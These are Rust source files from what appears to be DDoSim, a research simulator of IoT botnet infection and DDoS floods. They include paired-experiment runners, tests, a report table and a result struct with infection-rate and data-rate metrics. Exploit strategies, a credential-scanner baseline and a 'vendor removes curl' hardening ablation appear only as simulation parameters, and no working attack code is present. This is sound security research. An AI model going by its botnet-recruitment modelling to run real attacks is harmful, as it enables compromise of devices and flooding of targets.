        r.avg_received_data_rate_kbps
    })
}

/// Figure 3's duration comparison as a paired-CRN experiment: every longer
/// attack duration against the shortest, metric = average received data
/// rate (kbps).
///
/// # Panics
///
/// Panics if fewer than two durations are given.
pub fn fig3_paired(
    devs: usize,
    durations_secs: &[u64],
    replicates: u64,
    base_seed: u64,
) -> Vec<CrnComparison> {
    assert!(durations_secs.len() >= 2, "fig3_paired needs a baseline and a treatment");
    let with_duration = |secs: u64| {
        SimulationBuilder::new()
            .devs(devs)
            .attack(crate::AttackSpec::udp_plain(Duration::from_secs(secs)))
            .config()
            .clone()
    };
    let base = with_duration(durations_secs[0]);
    let treatments: Vec<(String, SimulationConfig)> = durations_secs[1..]
        .iter()
        .map(|&secs| {
            (
                format!("{secs}s attack vs {}s", durations_secs[0]),
                with_duration(secs),
            )
        })
        .collect();
    crn_compare(&base, &treatments, replicates, base_seed, |r| {
        r.avg_received_data_rate_kbps
    })
}

/// The R1/R2 strategy comparison as a paired-CRN experiment: static-chain
/// and code-injection exploits against leak+rebase on random protection
/// subsets, metric = infection rate.
pub fn infection_matrix_paired(devs: usize, replicates: u64, base_seed: u64) -> Vec<CrnComparison> {
    let with_strategy = |s: crate::ExploitStrategy| {
        SimulationBuilder::new().devs(devs).strategy(s).config().clone()
    };
    let base = with_strategy(crate::ExploitStrategy::LeakRebase);
    let treatments = vec![
        (
            "static chain vs leak+rebase".to_owned(),
            with_strategy(crate::ExploitStrategy::StaticChain),
        ),
        (
            "code injection vs leak+rebase".to_owned(),
            with_strategy(crate::ExploitStrategy::CodeInjection),
        ),
    ];
    crn_compare(&base, &treatments, replicates, base_seed, |r| r.infection_rate)
}

/// The §IV-C hardening ablations as a paired-CRN experiment: each ablation
/// against the unhardened baseline, metric = average received data rate
/// (kbps).
pub fn ablations_paired(devs: usize, replicates: u64, base_seed: u64) -> Vec<CrnComparison> {
    let base = SimulationBuilder::new().devs(devs).config().clone();
    let treatments = vec![
        (
            "vendor removes curl".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .commands(CommandSet::without(&["curl"]))
                .config()
                .clone(),
        ),
        (
            "device data rate capped at 100-150 kbps".to_owned(),
            SimulationBuilder::new().devs(devs).access_rate_kbps(100..=150).config().clone(),
        ),
        (
            "firmware rebuilt with stack canaries".to_owned(),
            SimulationBuilder::new()
                .devs(devs)
                .protections(ProtectionMix::Uniform(Protections::HARDENED))
                .config()
                .clone(),
        ),
    ];
    crn_compare(&base, &treatments, replicates, base_seed, |r| {
        r.avg_received_data_rate_kbps
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small(devs: usize, seed: u64) -> SimulationConfig {
        SimulationBuilder::new()
            .devs(devs)
            .attack(crate::AttackSpec::udp_plain(Duration::from_secs(15)))
            .attack_at(Duration::from_secs(25))
            .sim_time(Duration::from_secs(45))
            .attack_ramp(Duration::from_secs(2))
            .seed(seed)
            .config()
            .clone()
    }

    #[test]
    fn run_configs_preserves_order_and_parallelizes() {
        let configs = vec![small(2, 1), small(4, 2), small(6, 3)];
        let results = run_configs(configs);
        assert_eq!(results.len(), 3);
        assert_eq!(results[0].devs, 2);
        assert_eq!(results[1].devs, 4);
        assert_eq!(results[2].devs, 6);
    }

    #[test]
    fn identical_configs_give_identical_results() {
        let results = run_configs(vec![small(3, 9), small(3, 9)]);
        assert_eq!(
            results[0].avg_received_data_rate_kbps,
            results[1].avg_received_data_rate_kbps
        );
        assert_eq!(results[0].packets_sent, results[1].packets_sent);
    }

    #[test]
    fn one_failing_config_does_not_poison_the_sweep() {
        // devs = 0 fails validation inside the worker thread; before
        // try_run_configs this panicked the worker, poisoned the results
        // mutex, and aborted every other row of the sweep.
        let invalid = SimulationConfig { devs: 0, ..small(2, 1) };
        let outcomes = try_run_configs(vec![small(2, 1), invalid, small(3, 2)]);
        assert_eq!(outcomes.len(), 3);
        assert_eq!(outcomes[0].as_ref().map(|r| r.devs), Ok(2));
        assert_eq!(outcomes[2].as_ref().map(|r| r.devs), Ok(3));
        let err = outcomes[1].as_ref().expect_err("devs = 0 must fail");
        assert!(err.contains("configuration 1 invalid"), "got: {err}");
    }

    #[test]
    fn run_configs_panics_with_aggregate_message_on_failure() {
        let invalid = SimulationConfig { devs: 0, ..small(2, 1) };
        let panic = catch_unwind(AssertUnwindSafe(|| run_configs(vec![small(2, 1), invalid])))
            .expect_err("run_configs must propagate the failure");
        let msg = panic_message(&*panic);
        assert!(msg.contains("1 of 2 runs"), "got: {msg}");
    }

    #[test]
    fn empty_sweep_returns_empty() {
        assert!(try_run_configs(Vec::new()).is_empty());
        assert!(run_configs(Vec::new()).is_empty());
    }

    #[test]
    fn single_config_sweep_matches_direct_run() {
        let direct = Ddosim::new(small(3, 5)).expect("valid").run_to_completion();
        let swept = try_run_configs(vec![small(3, 5)]);
        assert_eq!(swept.len(), 1);
        let r = swept[0].as_ref().expect("run completes");
        assert_eq!(r.packets_sent, direct.packets_sent);
        assert_eq!(
            r.avg_received_data_rate_kbps,
            direct.avg_received_data_rate_kbps
        );
    }

    #[test]
    fn many_more_configs_than_threads_all_complete_in_order() {
        let threads = std::thread::available_parallelism()
            .map(std::num::NonZeroUsize::get)
            .unwrap_or(4);
        let n = threads * 3 + 1;
        let configs: Vec<SimulationConfig> = (0..n).map(|i| small(2, i as u64)).collect();
        let outcomes = try_run_configs(configs);
        assert_eq!(outcomes.len(), n);
        for (i, outcome) in outcomes.iter().enumerate() {
            let r = outcome.as_ref().unwrap_or_else(|e| panic!("row {i}: {e}"));
            assert_eq!(r.seed, i as u64, "row {i} out of input order");
        }
    }

    #[test]
    fn poisoned_row_panic_reports_location_and_other_rows_complete() {
        // tserver_link_bps = 0 passes validation but panics mid-run (the
        // zero-rate tx_delay) once attack traffic reaches the TServer
        // link — a worker *panic*, not an Err. It must cost only its own
        // row, rows on both sides still complete in input order, and the
        // failure string must carry the panic's file:line.
        let poisoned = SimulationConfig {
            tserver_link_bps: 0,
            ..small(2, 1)
        };
        let outcomes = try_run_configs(vec![small(2, 1), poisoned, small(3, 2)]);
        assert_eq!(outcomes.len(), 3);
        assert_eq!(outcomes[0].as_ref().map(|r| r.devs), Ok(2));
        assert_eq!(outcomes[2].as_ref().map(|r| r.devs), Ok(3));
        let err = outcomes[1].as_ref().expect_err("zero-rate link must panic");
        assert!(err.contains("run 1 panicked"), "got: {err}");
        assert!(err.contains(".rs:"), "panic location missing from: {err}");
    }

    #[test]
    fn panic_location_slot_is_consumed_per_thread() {
        install_location_hook();
        let outcome = catch_unwind(AssertUnwindSafe(|| -> u32 { panic!("boom") }));
        assert!(outcome.is_err());
        let loc = take_panic_location();
        assert!(
            loc.contains("experiment.rs"),
            "location hook must capture this file, got: '{loc}'"
        );
        assert_eq!(take_panic_location(), "", "slot must clear after take");
    }

    /// Canonical byte representation of a row for identity comparisons:
    /// the deterministic result JSON for successes, the error string for
    /// failures.
    fn row_repr(outcome: &Result<RunResult, String>) -> String {
        match outcome {
            Ok(r) => r.to_deterministic_json().to_string_compact(),
            Err(e) => e.clone(),
        }
    }

    #[test]
    fn streamed_rows_match_batch_including_failures() {
        let invalid = SimulationConfig { devs: 0, ..small(2, 1) };
        let poisoned = SimulationConfig {
            tserver_link_bps: 0,
            ..small(2, 1)
        };
        let configs = vec![small(2, 1), invalid, small(3, 2), poisoned];
        let batch = try_run_configs(configs.clone());
        let mut seen: Vec<Option<String>> = vec![None; configs.len()];
        let streamed = try_run_configs_streamed(configs, |i, outcome| {
            assert!(seen[i].is_none(), "row {i} delivered twice");
            seen[i] = Some(row_repr(outcome));
        });
        assert_eq!(batch.len(), streamed.len());
        for (i, (b, s)) in batch.iter().zip(&streamed).enumerate() {
            assert_eq!(row_repr(b), row_repr(s), "row {i} differs from batch");
            let cb = seen[i].as_ref().unwrap_or_else(|| panic!("row {i} never delivered"));
            assert_eq!(cb, &row_repr(b), "callback row {i} differs from batch");
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::ProptestConfig::with_cases(4))]
        #[test]
        fn streamed_rows_are_byte_identical_to_batch(
            seeds in proptest::collection::vec(proptest::any::<u64>(), 1..5)
        ) {
            // Derive a mixed bag from each seed: valid rows of varying
            // size, invalid rows (devs = 0 fails validation), and poisoned
            // rows (a zero-rate TServer link panics mid-run) — the error
            // strings must be byte-identical too.
            let configs: Vec<SimulationConfig> = seeds
                .iter()
                .map(|&s| {
                    let mut c = small(2 + (s % 2) as usize, s % 16);
                    match s % 5 {
                        0 => c.devs = 0,
                        1 => c.tserver_link_bps = 0,
                        _ => {}
                    }
                    c
                })
                .collect();
            let batch = try_run_configs(configs.clone());
            let mut seen: Vec<Option<String>> = vec![None; configs.len()];
            let streamed = try_run_configs_streamed(configs, |i, outcome| {
                proptest::prop_assert!(seen[i].is_none(), "row {} delivered twice", i);
                seen[i] = Some(row_repr(outcome));
            });
            for (i, (b, s)) in batch.iter().zip(&streamed).enumerate() {
                proptest::prop_assert_eq!(&row_repr(b), &row_repr(s), "row {} differs", i);
                let cb = seen[i].clone().expect("every row delivered");
                proptest::prop_assert_eq!(cb, row_repr(b), "callback row {} differs", i);
            }
        }
    }

    #[test]
    fn crn_pairing_reduces_difference_variance() {
        // Treatment: a longer attack duration. Both arms' received rate
        // scales with the same world draws (the bots' access-link rates),
        // so under a shared noise plan the A−B difference cancels that
        // noise, while independent seeds redraw it in both arms. (A
        // treatment whose arm stops responding to the shared noise — e.g.
        // capping the flood below the access range — would defeat the
        // pairing; CRN pays off when both arms co-vary with the noise.)
        let base = small(2, 0);
        let mut longer = base.clone();
        longer.attack.duration = Duration::from_secs(18);
        let rows = crn_compare(
            &base,
            &[("18s attack vs 15s".to_owned(), longer)],
            20,
            1000,
            |r| r.avg_received_data_rate_kbps,
        );
        assert_eq!(rows.len(), 1);
        let row = &rows[0];
        assert_eq!(row.replicates, 20);
        assert!(
            row.independent_diff_var > 0.0,
            "independent seeds must produce varying differences"
        );
        assert!(
            row.paired_diff_var < row.independent_diff_var,
            "paired variance {} must be strictly below independent variance {}",
            row.paired_diff_var,
            row.independent_diff_var
        );
        assert!(row.variance_ratio > 1.0, "ratio: {}", row.variance_ratio);
    }

    #[test]
    fn crn_paired_arms_share_noise_streams() {
        // Two paired configs that do not differ at all must produce the
        // same deterministic result even though their run seeds differ:
        // every noise stream is pinned.
        let mut a = small(3, 1);
        let mut b = small(3, 2);
        a.rng = RngPlan::pinned(55);
        b.rng = RngPlan::pinned(55);
        let results = run_configs(vec![a, b]);
        assert_eq!(results[0].packets_sent, results[1].packets_sent);
        assert_eq!(
            results[0].avg_received_data_rate_kbps,
            results[1].avg_received_data_rate_kbps
        );
        assert_eq!(results[0].infected, results[1].infected);
    }

    #[test]
    fn pinned_plan_reproduces_the_plain_run_of_its_noise_seed() {
        // pinned(s) on any run seed is the same world as a plain run with
        // seed = s — the pinning is an override, not a new derivation.
        let plain = Ddosim::new(small(3, 7)).expect("valid").run_to_completion();
        let mut pinned = small(3, 1234);
        pinned.rng = RngPlan::pinned(7);
        let r = Ddosim::new(pinned).expect("valid").run_to_completion();
        assert_eq!(r.packets_sent, plain.packets_sent);
        assert_eq!(
            r.avg_received_data_rate_kbps,
            plain.avg_received_data_rate_kbps
        );
    }

    #[test]
    fn run_suffixes_empty_and_identity() {
        let mut parent = Ddosim::new(small(3, 11)).expect("valid");
        parent.run_prefix(Duration::from_secs(20)).expect("prefix runs");
        assert!(run_suffixes(&parent, &[]).is_empty());
        let straight = Ddosim::new(small(3, 11)).expect("valid").run_to_completion();
        let rows = run_suffixes(
            &parent,
            &[
                crate::suffix::SuffixSpec::identity("a"),
                crate::suffix::SuffixSpec::identity("b"),
            ],
        );
        assert_eq!(rows.len(), 2);
        for row in &rows {
            let r = row.as_ref().expect("identity suffix completes");
            assert_eq!(r.packets_sent, straight.packets_sent);
            assert_eq!(r.flood_packets_received, straight.flood_packets_received);
        }
    }

    #[test]
    fn run_suffixes_bad_horizon_costs_only_its_row() {
        let mut parent = Ddosim::new(small(3, 11)).expect("valid");
        parent.run_prefix(Duration::from_secs(20)).expect("prefix runs");
        let bad = crate::suffix::SuffixSpec {
            horizon: Some(Duration::from_secs(1)),
            ..crate::suffix::SuffixSpec::identity("bad")
        };
        let rows = run_suffixes(
            &parent,
            &[crate::suffix::SuffixSpec::identity("ok"), bad],
        );
        assert!(rows[0].is_ok());
        let err = rows[1].as_ref().expect_err("horizon before attack end");
        assert!(err.contains("suffix 1 invalid"), "got: {err}");
        assert!(err.contains("horizon"), "got: {err}");
    }

    /// Peak resident set (VmHWM) of this process, in kB.
    fn peak_rss_kb() -> u64 {
        std::fs::read_to_string("/proc/self/status")
            .ok()
            .and_then(|s| {
                s.lines().find(|l| l.starts_with("VmHWM:")).and_then(|l| {
                    l.split_whitespace().nth(1).and_then(|v| v.parse().ok())
                })
            })
            .unwrap_or(0)
    }

    #[test]
    fn wide_suffix_sweep_forks_lazily() {
        let threads = std::thread::available_parallelism()
            .map(std::num::NonZeroUsize::get)
            .unwrap_or(4);
        let mut parent = Ddosim::new(small(4, 11)).expect("valid");
        parent.run_prefix(Duration::from_secs(20)).expect("prefix runs");
        let n = threads * 4 + 2;
        let suffixes: Vec<SuffixSpec> = (0..n)
            .map(|i| SuffixSpec::identity(format!("s{i}")))
            .collect();
        let rss_before = peak_rss_kb();
        let peak = AtomicUsize::new(0);
        let mut delivered = 0usize;
        let rows = run_suffixes_bounded(
            &parent,
            &suffixes,
            |_, outcome| {
                assert!(outcome.is_ok());
                delivered += 1;
            },
            &peak,
        );
        assert_eq!(rows.len(), n);
        assert_eq!(delivered, n);
        assert!(rows.iter().all(Result::is_ok));
        // The precise lazy-forking invariant: live worlds never exceed the
        // pool (running) + the hand-off queue (threads) + the one in the
        // producer's hand. Eager forking holds all n alive at once.
        let peak = peak.load(Ordering::Relaxed);
        assert!(peak >= 1, "at least one fork must have been live");
        assert!(
            peak <= 2 * threads + 2,
            "peak of {peak} live forks exceeds the lazy bound for {threads} threads \
             ({n} suffixes would all be live under eager forking)"
        );
        // Coarse end-to-end check on the same property: a wide sweep of
        // small worlds must not balloon the process high-water mark the
        // way n simultaneous deep clones would.
        let rss_grown_kb = peak_rss_kb().saturating_sub(rss_before);
        assert!(
            rss_grown_kb < 512 * 1024,
            "wide suffix sweep grew peak RSS by {rss_grown_kb} kB"
        );
    }

    #[test]
    fn streamed_suffixes_match_traced_rows() {
        let mut parent = Ddosim::new(small(3, 11)).expect("valid");
        parent.run_prefix(Duration::from_secs(20)).expect("prefix runs");
        let bad = crate::suffix::SuffixSpec {
            horizon: Some(Duration::from_secs(1)),
            ..crate::suffix::SuffixSpec::identity("bad")
        };
        let suffixes = vec![
            crate::suffix::SuffixSpec::identity("a"),
            bad,
            crate::suffix::SuffixSpec::identity("b"),
        ];
        let repr = |o: &Result<SuffixOutcome, String>| match o {
            Ok(s) => s.result.to_deterministic_json().to_string_compact(),
            Err(e) => e.clone(),
        };
        let batch = run_suffixes_traced(&parent, &suffixes);
        let mut seen: Vec<Option<String>> = vec![None; suffixes.len()];
        let streamed = run_suffixes_streamed(&parent, &suffixes, |i, outcome| {
            assert!(seen[i].is_none(), "row {i} delivered twice");
            seen[i] = Some(repr(outcome));
        });
        for (i, (b, s)) in batch.iter().zip(&streamed).enumerate() {
            assert_eq!(repr(b), repr(s), "row {i} differs from batch");
            assert_eq!(
                seen[i].as_deref(),
                Some(repr(b).as_str()),
                "callback row {i} differs from batch"
            );
        }
    }
}
