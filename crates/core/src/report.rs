//! Plain-text and CSV rendering of experiment outputs.

use std::fmt::Write as _;

/// A simple column-aligned text table with a CSV twin.
#[derive(Debug, Clone)]
pub struct Table {
    title: String,
    headers: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Table {
    /// Creates an empty table.
    pub fn new(title: impl Into<String>, headers: &[&str]) -> Self {
        Table {
            title: title.into(),
            headers: headers.iter().map(|h| (*h).to_owned()).collect(),
            rows: Vec::new(),
        }
    }

    /// Appends a row.
    ///
    /// # Panics
    ///
    /// Panics if the row width differs from the header width.
    pub fn push_row(&mut self, row: Vec<String>) {
        assert_eq!(row.len(), self.headers.len(), "row width mismatch");
        self.rows.push(row);
    }

    /// Number of data rows.
    pub fn row_count(&self) -> usize {
        self.rows.len()
    }

    /// Renders the aligned text table.
    pub fn render(&self) -> String {
        let mut widths: Vec<usize> = self.headers.iter().map(String::len).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate() {
                widths[i] = widths[i].max(cell.len());
            }
        }
        let mut out = String::new();
        let _ = writeln!(out, "# {}", self.title);
        let line = |cells: &[String], widths: &[usize]| -> String {
            let mut s = String::new();
            for (i, cell) in cells.iter().enumerate() {
                let _ = write!(s, "| {:<w$} ", cell, w = widths[i]);
            }
            s.push('|');
            s
        };
        let header = line(&self.headers, &widths);
        let _ = writeln!(out, "{header}");
        let _ = writeln!(out, "{}", "-".repeat(header.len()));
        for row in &self.rows {
            let _ = writeln!(out, "{}", line(row, &widths));
        }
        out
    }

    /// Renders CSV (header row first).
    pub fn to_csv(&self) -> String {
        let esc = |cell: &str| -> String {
            if cell.contains(',') || cell.contains('"') {
                format!("\"{}\"", cell.replace('"', "\"\""))
            } else {
                cell.to_owned()
            }
        };
        let mut out = String::new();
        let _ = writeln!(
            out,
            "{}",
            self.headers.iter().map(|h| esc(h)).collect::<Vec<_>>().join(",")
        );
        for row in &self.rows {
            let _ = writeln!(
                out,
                "{}",
                row.iter().map(|c| esc(c)).collect::<Vec<_>>().join(",")
            );
        }
        out
    }
}

/// Formats a float with `digits` decimals.
pub fn fmt_f(v: f64, digits: usize) -> String {
    format!("{v:.digits$}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn render_aligns_columns() {
        let mut t = Table::new("Demo", &["devs", "kbps"]);
        t.push_row(vec!["10".into(), "1234.5".into()]);
        t.push_row(vec!["150".into(), "9.0".into()]);
        let s = t.render();
        assert!(s.contains("# Demo"));
        assert!(s.contains("| devs | kbps"));
        assert_eq!(t.row_count(), 2);
    }

    #[test]
    #[should_panic(expected = "row width mismatch")]
    fn row_width_enforced() {
        let mut t = Table::new("x", &["a", "b"]);
        t.push_row(vec!["1".into()]);
    }

    #[test]
    fn csv_escapes() {
        let mut t = Table::new("x", &["a"]);
        t.push_row(vec!["v,1".into()]);
        t.push_row(vec!["say \"hi\"".into()]);
        let csv = t.to_csv();
        assert!(csv.contains("\"v,1\""));
        assert!(csv.contains("\"say \"\"hi\"\"\""));
    }

    #[test]
    fn fmt_f_digits() {
        assert_eq!(fmt_f(1.23456, 2), "1.23");
    }
}
