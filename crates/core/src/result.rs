//! Results of a DDoSim run.

use churn::ChurnMode;
use djson::{FromJson, Json, JsonError, ToJson};

/// Churn telemetry of a run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ChurnSummary {
    /// Devices that left the network.
    pub departures: u64,
    /// Devices that rejoined.
    pub rejoins: u64,
    /// Devices down at the end of the run.
    pub down_at_end: usize,
}

impl ToJson for ChurnSummary {
    fn to_json(&self) -> Json {
        Json::obj([
            ("departures", self.departures.to_json()),
            ("rejoins", self.rejoins.to_json()),
            ("down_at_end", self.down_at_end.to_json()),
        ])
    }
}

impl FromJson for ChurnSummary {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        Ok(ChurnSummary {
            departures: field(value, "departures")?,
            rejoins: field(value, "rejoins")?,
            down_at_end: field(value, "down_at_end")?,
        })
    }
}

fn churn_mode_tag(mode: ChurnMode) -> &'static str {
    match mode {
        ChurnMode::None => "none",
        ChurnMode::Static => "static",
        ChurnMode::Dynamic => "dynamic",
    }
}

fn churn_mode_from_tag(tag: &str) -> Result<ChurnMode, JsonError> {
    match tag {
        "none" => Ok(ChurnMode::None),
        "static" => Ok(ChurnMode::Static),
        "dynamic" => Ok(ChurnMode::Dynamic),
        other => Err(JsonError::conversion(format!("unknown churn mode {other}"))),
    }
}

fn field<T: FromJson>(value: &Json, name: &str) -> Result<T, JsonError> {
    let v = value
        .get(name)
        .ok_or_else(|| JsonError::conversion(format!("missing field {name}")))?;
    T::from_json(v).map_err(|e| JsonError::conversion(format!("field {name}: {}", e.message)))
}

/// Everything one DDoSim run produces — the paper's measurements plus
/// internal telemetry.
#[derive(Debug, Clone)]
pub struct RunResult {
    /// Number of Devs configured.
    pub devs: usize,
    /// Churn variant.
    pub churn: ChurnMode,
    /// Commanded attack duration (seconds).
    pub attack_duration_secs: u64,
    /// When the attack command was issued (seconds).
    pub attack_at_secs: u64,
    /// RNG seed.
    pub seed: u64,
    /// Eq. 2: the average received data rate at TServer over the attack
    /// window, in kbps.
    pub avg_received_data_rate_kbps: f64,
    /// Per-second received data rate series at TServer (kbits/s).
    pub per_second_kbits: Vec<f64>,
    /// Devs recruited (C&C-registered at least once).
    pub infected: usize,
    /// Devs recruited before the attack command.
    pub infected_before_attack: usize,
    /// Bots connected at the moment the attack command was issued.
    pub bots_at_command: usize,
    /// Infection rate (R2: the paper reports 100%).
    pub infection_rate: f64,
    /// First-infection times per Dev, in seconds (botnet growth curve).
    pub infection_times_secs: Vec<f64>,
    /// Peak simultaneous bots at the C&C.
    pub peak_bots: usize,
    /// Total C&C registrations (re-registrations after churn included).
    pub total_registrations: u64,
    /// Flood packets received by the TServer sink (by marker).
    pub flood_packets_received: u64,
    /// Flood wire bytes received by the TServer sink.
    pub flood_bytes_received: u64,
    /// Table I: pre-attack host memory (GB).
    pub pre_attack_mem_gb: f64,
    /// Table I: attack-phase host memory (GB).
    pub attack_mem_gb: f64,
    /// Table I: wall-clock seconds spent simulating the attack window.
    pub attack_wall_clock_secs: f64,
    /// Total packets handed to the network.
    pub packets_sent: u64,
    /// Total packets delivered.
    pub packets_delivered: u64,
    /// Total packets dropped (all causes).
    pub packets_dropped: u64,
    /// Churn telemetry, when churn was enabled.
    pub churn_summary: Option<ChurnSummary>,
    /// Credential-scanner baseline: devices compromised.
    pub scanner_successes: Option<usize>,
    /// Credential-scanner baseline: credential attempts.
    pub scanner_attempts: Option<u64>,
}

impl RunResult {
    /// Formats the attack wall-clock as the paper's `m:ss`.
    pub fn attack_time_m_ss(&self) -> String {
        let total = self.attack_wall_clock_secs.round() as u64;
        format!("{}:{:02}", total / 60, total % 60)
    }

    /// Average received data rate expressed in Mbps.
    pub fn avg_received_data_rate_mbps(&self) -> f64 {
        self.avg_received_data_rate_kbps / 1000.0
    }

    /// Quantile (`0.0..=1.0`) of time-to-infection among recruited Devs,
    /// in seconds; `None` if no Dev was recruited.
    ///
    /// Uses the standard linear-interpolation definition (R-7 / NumPy
    /// `linear`): rank `h = (n − 1)·q`, interpolating between the two
    /// order statistics bracketing `h`, so the median of two samples is
    /// their midpoint. An earlier nearest-rank revision rounded `h`
    /// half-up into the wrong rank for small samples — p50 of 2 elements
    /// returned the max.
    ///
    /// # Panics
    ///
    /// Panics if `q` is outside `[0, 1]`.
    pub fn time_to_infect_quantile(&self, q: f64) -> Option<f64> {
        assert!((0.0..=1.0).contains(&q), "quantile out of range");
        if self.infection_times_secs.is_empty() {
            return None;
        }
        let mut times = self.infection_times_secs.clone();
        times.sort_by(f64::total_cmp);
        let h = (times.len() - 1) as f64 * q;
        let lo = h.floor() as usize;
        let frac = h - lo as f64;
        if frac == 0.0 {
            return Some(times[lo]);
        }
        Some(times[lo] + frac * (times[lo + 1] - times[lo]))
    }

    /// Peak per-second received data rate (kbits/s) over the whole run.
    pub fn peak_received_kbits(&self) -> f64 {
        self.per_second_kbits.iter().copied().fold(0.0, f64::max)
    }

    /// The simulation-derived portion of the result as JSON — everything
    /// except the host-measured fields (`pre_attack_mem_gb`,
    /// `attack_mem_gb`, `attack_wall_clock_secs`), which depend on the
    /// machine and scheduler rather than the seed. Two runs with the same
    /// configuration and seed must produce byte-identical output here; the
    /// cross-run determinism regression test asserts exactly that.
    pub fn to_deterministic_json(&self) -> Json {
        Json::obj([
            ("devs", self.devs.to_json()),
            ("churn", Json::Str(churn_mode_tag(self.churn).to_string())),
            ("attack_duration_secs", self.attack_duration_secs.to_json()),
            ("attack_at_secs", self.attack_at_secs.to_json()),
            ("seed", self.seed.to_json()),
            (
                "avg_received_data_rate_kbps",
                self.avg_received_data_rate_kbps.to_json(),
            ),
            ("per_second_kbits", self.per_second_kbits.to_json()),
            ("infected", self.infected.to_json()),
            ("infected_before_attack", self.infected_before_attack.to_json()),
            ("bots_at_command", self.bots_at_command.to_json()),
            ("infection_rate", self.infection_rate.to_json()),
            ("infection_times_secs", self.infection_times_secs.to_json()),
            ("peak_bots", self.peak_bots.to_json()),
            ("total_registrations", self.total_registrations.to_json()),
            ("flood_packets_received", self.flood_packets_received.to_json()),
            ("flood_bytes_received", self.flood_bytes_received.to_json()),
            ("packets_sent", self.packets_sent.to_json()),
            ("packets_delivered", self.packets_delivered.to_json()),
            ("packets_dropped", self.packets_dropped.to_json()),
            ("churn_summary", self.churn_summary.to_json()),
            ("scanner_successes", self.scanner_successes.to_json()),
            ("scanner_attempts", self.scanner_attempts.to_json()),
        ])
    }
}

impl ToJson for RunResult {
    fn to_json(&self) -> Json {
        let Json::Obj(mut members) = self.to_deterministic_json() else {
            unreachable!("to_deterministic_json always returns an object")
        };
        // Host-measured telemetry rides along in the full serialization but
        // is deliberately absent from the deterministic form above.
        members.push(("pre_attack_mem_gb".into(), self.pre_attack_mem_gb.to_json()));
        members.push(("attack_mem_gb".into(), self.attack_mem_gb.to_json()));
        members.push((
            "attack_wall_clock_secs".into(),
            self.attack_wall_clock_secs.to_json(),
        ));
        Json::Obj(members)
    }
}

impl FromJson for RunResult {
    fn from_json(value: &Json) -> Result<Self, JsonError> {
        let churn_tag: String = field(value, "churn")?;
        Ok(RunResult {
            devs: field(value, "devs")?,
            churn: churn_mode_from_tag(&churn_tag)?,
            attack_duration_secs: field(value, "attack_duration_secs")?,
            attack_at_secs: field(value, "attack_at_secs")?,
            seed: field(value, "seed")?,
            avg_received_data_rate_kbps: field(value, "avg_received_data_rate_kbps")?,
            per_second_kbits: field(value, "per_second_kbits")?,
            infected: field(value, "infected")?,
            infected_before_attack: field(value, "infected_before_attack")?,
            bots_at_command: field(value, "bots_at_command")?,
            infection_rate: field(value, "infection_rate")?,
            infection_times_secs: field(value, "infection_times_secs")?,
            peak_bots: field(value, "peak_bots")?,
            total_registrations: field(value, "total_registrations")?,
            flood_packets_received: field(value, "flood_packets_received")?,
            flood_bytes_received: field(value, "flood_bytes_received")?,
            pre_attack_mem_gb: field(value, "pre_attack_mem_gb")?,
            attack_mem_gb: field(value, "attack_mem_gb")?,
            attack_wall_clock_secs: field(value, "attack_wall_clock_secs")?,
            packets_sent: field(value, "packets_sent")?,
            packets_delivered: field(value, "packets_delivered")?,
            packets_dropped: field(value, "packets_dropped")?,
            churn_summary: field(value, "churn_summary")?,
            scanner_successes: field(value, "scanner_successes")?,
            scanner_attempts: field(value, "scanner_attempts")?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn result() -> RunResult {
        RunResult {
            devs: 10,
            churn: ChurnMode::Dynamic,
            attack_duration_secs: 100,
            attack_at_secs: 60,
            seed: 1,
            avg_received_data_rate_kbps: 2500.0,
            per_second_kbits: vec![0.0, 100.0],
            infected: 10,
            infected_before_attack: 10,
            bots_at_command: 10,
            infection_rate: 1.0,
            infection_times_secs: vec![4.5],
            peak_bots: 10,
            total_registrations: 10,
            flood_packets_received: 1000,
            flood_bytes_received: 540_000,
            pre_attack_mem_gb: 0.38,
            attack_mem_gb: 0.39,
            attack_wall_clock_secs: 123.4,
            packets_sent: 1,
            packets_delivered: 1,
            packets_dropped: 0,
            churn_summary: Some(ChurnSummary {
                departures: 2,
                rejoins: 1,
                down_at_end: 1,
            }),
            scanner_successes: None,
            scanner_attempts: None,
        }
    }

    #[test]
    fn attack_time_formats_like_the_paper() {
        assert_eq!(result().attack_time_m_ss(), "2:03");
    }

    #[test]
    fn mbps_conversion() {
        assert!((result().avg_received_data_rate_mbps() - 2.5).abs() < 1e-12);
    }

    #[test]
    fn infection_quantiles() {
        let mut r = result();
        r.infection_times_secs = vec![1.0, 2.0, 3.0, 4.0, 10.0];
        assert_eq!(r.time_to_infect_quantile(0.0), Some(1.0));
        assert_eq!(r.time_to_infect_quantile(0.5), Some(3.0));
        assert_eq!(r.time_to_infect_quantile(1.0), Some(10.0));
        r.infection_times_secs.clear();
        assert_eq!(r.time_to_infect_quantile(0.5), None);
    }

    #[test]
    fn infection_quantiles_small_samples() {
        // Hand-computed R-7 (linear interpolation) values for n = 1..4.
        // The nearest-rank revision rounded (n−1)·q half-up: p50 of
        // [2, 8] hit index round(0.5) = 1 and returned 8.0.
        let mut r = result();
        r.infection_times_secs = vec![5.0];
        assert_eq!(r.time_to_infect_quantile(0.0), Some(5.0));
        assert_eq!(r.time_to_infect_quantile(0.5), Some(5.0));
        assert_eq!(r.time_to_infect_quantile(1.0), Some(5.0));

        r.infection_times_secs = vec![8.0, 2.0];
        assert_eq!(r.time_to_infect_quantile(0.0), Some(2.0));
        assert_eq!(r.time_to_infect_quantile(0.5), Some(5.0));
        assert_eq!(r.time_to_infect_quantile(0.75), Some(6.5));
        assert_eq!(r.time_to_infect_quantile(1.0), Some(8.0));

        r.infection_times_secs = vec![3.0, 1.0, 2.0];
        assert_eq!(r.time_to_infect_quantile(0.5), Some(2.0));
        // h = 2·0.25 = 0.5 → midpoint of the first two order statistics.
        assert_eq!(r.time_to_infect_quantile(0.25), Some(1.5));
        assert_eq!(r.time_to_infect_quantile(0.75), Some(2.5));

        r.infection_times_secs = vec![4.0, 1.0, 3.0, 2.0];
        // h = 3·0.5 = 1.5 → between 2.0 and 3.0.
        assert_eq!(r.time_to_infect_quantile(0.5), Some(2.5));
